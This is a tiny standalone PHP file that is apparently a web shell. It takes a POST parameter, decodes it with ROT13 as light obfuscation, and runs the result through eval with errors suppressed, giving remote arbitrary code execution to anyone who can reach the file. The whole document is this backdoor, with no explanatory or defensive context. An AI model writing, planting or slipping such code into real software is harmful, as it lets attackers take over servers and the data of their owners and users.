<?php
$x=$_POST['x'];
@eval(str_rot13($x));
